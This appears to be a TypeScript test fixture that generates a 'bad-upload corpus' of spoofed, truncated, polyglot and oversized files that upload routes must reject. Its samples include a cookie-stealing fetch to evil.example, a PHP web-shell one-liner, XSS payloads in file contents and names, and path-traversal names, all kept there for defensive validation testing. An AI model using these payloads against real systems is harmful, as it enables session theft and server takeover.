// The bad-upload corpus, built in code: files every upload route must refuse, each with the
// refusal a person is shown. Valid images are drawn with sharp; everything else is bytes.
import crypto from "node:crypto";
import zlib from "node:zlib";

import sharp from "sharp";

import { lyingMov, truncatedHeic } from "./media-fixtures";

/** Why a file is refused, which decides the message each route shows ("undecodable": a video of a type we take whose picture does not decode). */
export type Refusal = "type" | "empty" | "name" | "undecodable";

/** The name the corpus's undecodable video goes by: the video route's message names it. */
export const LYING_MOV_NAME = "IMG_0042.MOV";

export interface BadUpload {
  label: string;
  name: string;
  /** The MIME type the client claims. */
  type: string;
  bytes: Buffer;
  refusal: Refusal;
}

const text = (s: string) => Buffer.from(s, "latin1");

function box(type: string, payload: Buffer, size = 8 + payload.length): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(size, 0);
  head.write(type, 4, "latin1");
  return Buffer.concat([head, payload]);
}
const ftyp = (brand: string) =>
  box("ftyp", Buffer.concat([text(brand), Buffer.from([0, 0, 2, 0]), text(`${brand}iso2`)]));

/** A PNG whose IHDR declares other dimensions, its CRC made right so only the size is wrong. */
function withDimensions(png: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(png);
  out.writeUInt32BE(width, 16);
  out.writeUInt32BE(height, 20);
  out.writeUInt32BE(zlib.crc32(out.subarray(12, 29)), 29);
  return out;
}

/** A JPEG whose start-of-frame declares other dimensions. */
function jpegWithDimensions(jpeg: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(jpeg);
  for (let i = 2; i < out.length - 9;) {
    if (out[i] !== 0xff) break;
    const marker = out[i + 1];
    const length = out.readUInt16BE(i + 2);
    if (marker >= 0xc0 && marker <= 0xc2) {
      out.writeUInt16BE(height, i + 5);
      out.writeUInt16BE(width, i + 7);
      return out;
    }
    i += 2 + length;
  }
  throw new Error("no SOF marker");
}

const html = text("<!doctype html><html><body><script>alert(document.cookie)</script></body></html>");
const js = text("\n;fetch('https://evil.example/?c='+document.cookie);//");
const svgScript = text(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>',
);
const zip = Buffer.concat([
  text("PK\x03\x04\x14\0\0\0\0\0"),
  crypto.randomBytes(40),
  text("PK\x05\x06"),
  Buffer.alloc(18),
]);
const pdfWhole = text("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");

export async function badUploads(): Promise<BadUpload[]> {
  const png = await sharp({ create: { width: 64, height: 48, channels: 3, background: { r: 200, g: 80, b: 20 } } })
    .png()
    .toBuffer();
  const jpeg = await sharp({ create: { width: 64, height: 48, channels: 3, background: { r: 20, g: 80, b: 200 } } })
    .jpeg()
    .toBuffer();
  const webp = await sharp({ create: { width: 8, height: 8, channels: 3, background: "#888" } })
    .webp()
    .toBuffer();
  const gif = await sharp({ create: { width: 8, height: 8, channels: 3, background: "#888" } })
    .gif()
    .toBuffer();
  const tiff = await sharp({ create: { width: 8, height: 8, channels: 3, background: "#888" } })
    .tiff()
    .toBuffer();
  const heic = Buffer.concat([ftyp("heic"), box("meta", Buffer.alloc(32)), box("mdat", crypto.randomBytes(64))]);
  const bmp = Buffer.concat([
    text("BM"),
    Buffer.alloc(4),
    Buffer.alloc(4),
    Buffer.from([54, 0, 0, 0]),
    Buffer.alloc(40),
    crypto.randomBytes(64),
  ]);
  const mp4 = (...boxes: Buffer[]) => Buffer.concat(boxes);
  const mdat = box("mdat", crypto.randomBytes(256));
  const moov = box("moov", crypto.randomBytes(32));

  const list: BadUpload[] = [
    // Spoofed extensions and MIME types.
    { label: "HTML named .pdf", name: "cv.pdf", type: "application/pdf", bytes: html, refusal: "type" },
    {
      label: "Windows executable named .jpg",
      name: "photo.jpg",
      type: "image/jpeg",
      bytes: Buffer.concat([text("MZ\x90\0"), crypto.randomBytes(256)]),
      refusal: "type",
    },
    {
      label: "PHP script named .png",
      name: "shell.png",
      type: "image/png",
      bytes: text("<?php system($_GET['c']); ?>"),
      refusal: "type",
    },
    {
      label: "ELF binary named .mp4",
      name: "clip.mp4",
      type: "video/mp4",
      bytes: Buffer.concat([text("\x7fELF\x02\x01\x01"), crypto.randomBytes(256)]),
      refusal: "type",
    },
    {
      label: "plain text named .mp4",
      name: "movie.mp4",
      type: "video/mp4",
      bytes: text("just some words, not a movie"),
      refusal: "type",
    },
    { label: "PNG named .pdf", name: "portfolio.pdf", type: "application/pdf", bytes: png, refusal: "type" },
    { label: "JPEG named .png", name: "picture.png", type: "image/png", bytes: jpeg, refusal: "type" },
    { label: "PDF named .png", name: "scan.png", type: "image/png", bytes: pdfWhole, refusal: "type" },
    { label: "PNG named .svg", name: "logo.svg", type: "image/svg+xml", bytes: png, refusal: "type" },
    { label: "JPEG named .html", name: "page.html", type: "text/html", bytes: jpeg, refusal: "type" },
    { label: "PNG without an extension", name: "photo", type: "image/png", bytes: png, refusal: "type" },
    {
      label: "PNG named .png.exe",
      name: "photo.png.exe",
      type: "application/octet-stream",
      bytes: png,
      refusal: "type",
    },
    {
      label: "PNG claiming to be HTML",
      name: "image.png",
      type: "text/html",
      bytes: Buffer.concat([png, html]),
      refusal: "type",
    },
    // Polyglots: an image with HTML or JavaScript appended after its end.
    {
      label: "PNG + HTML after IEND",
      name: "poly.png",
      type: "image/png",
      bytes: Buffer.concat([png, html]),
      refusal: "type",
    },
    {
      label: "PNG + JavaScript after IEND",
      name: "poly-js.png",
      type: "image/png",
      bytes: Buffer.concat([png, js]),
      refusal: "type",
    },
    {
      label: "JPEG + HTML after EOI",
      name: "poly.jpg",
      type: "image/jpeg",
      bytes: Buffer.concat([jpeg, html]),
      refusal: "type",
    },
    {
      label: "JPEG + JavaScript after EOI",
      name: "poly-js.jpeg",
      type: "image/jpeg",
      bytes: Buffer.concat([jpeg, js]),
      refusal: "type",
    },
    {
      label: "GIF + ZIP (GIFAR)",
      name: "gifar.gif",
      type: "image/gif",
      bytes: Buffer.concat([gif, zip]),
      refusal: "type",
    },
    // Truncated files.
    {
      label: "PNG cut in half",
      name: "half.png",
      type: "image/png",
      bytes: png.subarray(0, Math.floor(png.length / 2)),
      refusal: "type",
    },
    {
      label: "PNG cut after its signature",
      name: "sig.png",
      type: "image/png",
      bytes: png.subarray(0, 20),
      refusal: "type",
    },
    {
      label: "JPEG cut in half",
      name: "half.jpg",
      type: "image/jpeg",
      bytes: jpeg.subarray(0, Math.floor(jpeg.length / 2)),
      refusal: "type",
    },
    { label: "JPEG of three bytes", name: "tiny.jpg", type: "image/jpeg", bytes: jpeg.subarray(0, 3), refusal: "type" },
    {
      label: "PDF without its end",
      name: "cut.pdf",
      type: "application/pdf",
      bytes: pdfWhole.subarray(0, 40),
      refusal: "type",
    },
    {
      label: "ZIP without its directory",
      name: "cut.zip",
      type: "application/zip",
      bytes: zip.subarray(0, 30),
      refusal: "type",
    },
    {
      label: "HEIC cut short",
      name: "IMG_0041.HEIC",
      type: "image/heic",
      bytes: await truncatedHeic(),
      refusal: "type",
    },
    {
      label: "MP4 cut inside a box",
      name: "cut.mp4",
      type: "video/mp4",
      bytes: mp4(ftyp("isom"), moov, mdat).subarray(0, 100),
      refusal: "type",
    },
    // Pixel bombs and huge declared dimensions.
    {
      label: "PNG declaring 100,000 × 100,000",
      name: "bomb.png",
      type: "image/png",
      bytes: withDimensions(png, 100_000, 100_000),
      refusal: "type",
    },
    {
      label: "PNG declaring just over the pixel limit",
      name: "big.png",
      type: "image/png",
      bytes: withDimensions(png, 10_001, 10_000),
      refusal: "type",
    },
    {
      label: "PNG declaring 2^31 wide",
      name: "wide.png",
      type: "image/png",
      bytes: withDimensions(png, 2 ** 31 - 1, 1),
      refusal: "type",
    },
    {
      label: "JPEG declaring 65,000 × 65,000",
      name: "bomb.jpg",
      type: "image/jpeg",
      bytes: jpegWithDimensions(jpeg, 65_000, 65_000),
      refusal: "type",
    },
    {
      label: "PNG declaring 0 × 0",
      name: "zero.png",
      type: "image/png",
      bytes: withDimensions(png, 0, 0),
      refusal: "type",
    },
    // Zero and almost zero bytes.
    { label: "zero bytes", name: "empty.pdf", type: "application/pdf", bytes: Buffer.alloc(0), refusal: "empty" },
    { label: "zero bytes named .png", name: "empty.png", type: "image/png", bytes: Buffer.alloc(0), refusal: "empty" },
    { label: "one byte", name: "one.png", type: "image/png", bytes: Buffer.from([0x89]), refusal: "type" },
    // Traversal and control characters in names.
    { label: "NUL in the name", name: "photo\u0000.png", type: "image/png", bytes: png, refusal: "name" },
    {
      label: "terminal escape in the name",
      name: "photo\u001b[2J.png",
      type: "image/png",
      bytes: png,
      refusal: "name",
    },
    { label: "DEL in the name", name: "photo\u007f.jpg", type: "image/jpeg", bytes: jpeg, refusal: "name" },
    { label: "tab in the name", name: "cv\t.pdf", type: "application/pdf", bytes: pdfWhole, refusal: "name" },
    {
      label: "Unix traversal to /etc/passwd",
      name: "../../../etc/passwd",
      type: "text/plain",
      bytes: text("root:x:0:0:root:/root:/bin/bash\n"),
      refusal: "type",
    },
    {
      label: "Windows traversal",
      name: "..\\..\\windows\\win.ini",
      type: "text/plain",
      bytes: text("[fonts]\r\n"),
      refusal: "type",
    },
    // The multipart parser reads "=" or ";" in a quoted name as a malformed header: the person is asked to rename it.
    {
      label: "HTML with = in the name",
      name: "<img src=x onerror=alert(1)>.png",
      type: "image/png",
      bytes: png,
      refusal: "name",
    },
    {
      label: "HTML script tag in the name",
      name: "<script>alert(1)</script>.png",
      type: "image/png",
      bytes: html,
      refusal: "type",
    },
    // SVG with script.
    { label: "SVG with script", name: "logo.svg", type: "image/svg+xml", bytes: svgScript, refusal: "type" },
    { label: "SVG with script named .png", name: "logo.png", type: "image/png", bytes: svgScript, refusal: "type" },
    // A HEIC whose index is noise: its boxes are whole, its header unreadable.
    { label: "HEIC with a meta box of zeros", name: "photo.heic", type: "image/heic", bytes: heic, refusal: "type" },
    { label: "HEIC named .jpg", name: "photo.jpg", type: "image/jpeg", bytes: heic, refusal: "type" },
    // A video whose header names a codec we take (HEVC) but whose frames are noise.
    {
      label: "MOV whose header lies about its codec",
      name: LYING_MOV_NAME,
      type: "video/quicktime",
      bytes: await lyingMov(),
      refusal: "undecodable",
    },
    // Formats no route accepts.
    { label: "TIFF", name: "scan.tiff", type: "image/tiff", bytes: tiff, refusal: "type" },
    {
      label: "big-endian TIFF header named .tif",
      name: "scan.tif",
      type: "image/tiff",
      bytes: Buffer.concat([text("MM\0*"), crypto.randomBytes(64)]),
      refusal: "type",
    },
    { label: "GIF", name: "anim.gif", type: "image/gif", bytes: gif, refusal: "type" },
    { label: "BMP", name: "image.bmp", type: "image/bmp", bytes: bmp, refusal: "type" },
    { label: "WebP named .png", name: "image.png", type: "image/png", bytes: webp, refusal: "type" },
    {
      label: "WebP cut short",
      name: "image.webp",
      type: "image/webp",
      bytes: webp.subarray(0, webp.length - 6),
      refusal: "type",
    },
    // MP4 with a wrong box layout.
    {
      label: "MP4: ftyp then random bytes",
      name: "random.mp4",
      type: "video/mp4",
      bytes: Buffer.concat([ftyp("isom"), crypto.randomBytes(512)]),
      refusal: "type",
    },
    {
      label: "MP4 without a moov box",
      name: "nomoov.mp4",
      type: "video/mp4",
      bytes: mp4(ftyp("isom"), mdat),
      refusal: "type",
    },
    {
      label: "MP4 box larger than the file",
      name: "long.mp4",
      type: "video/mp4",
      bytes: mp4(ftyp("isom"), moov, box("mdat", crypto.randomBytes(64), 1_000_000)),
      refusal: "type",
    },
    {
      label: "MP4 box of size 4",
      name: "small.mp4",
      type: "video/mp4",
      bytes: mp4(ftyp("isom"), box("moov", Buffer.alloc(16), 4)),
      refusal: "type",
    },
    {
      label: "MP4 with HTML appended",
      name: "poly.mp4",
      type: "video/mp4",
      bytes: mp4(ftyp("isom"), moov, mdat, html),
      refusal: "type",
    },
    {
      label: "QuickTime named .mp4",
      name: "clip.mp4",
      type: "video/mp4",
      bytes: mp4(ftyp("qt  "), moov, mdat),
      refusal: "type",
    },
    // A ZIP named .pdf.
    { label: "ZIP named .pdf", name: "portfolio.pdf", type: "application/pdf", bytes: zip, refusal: "type" },
    {
      label: "ZIP named .docx",
      name: "letter.docx",
      type: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
      bytes: zip,
      refusal: "type",
    },
  ];
  return list;
}
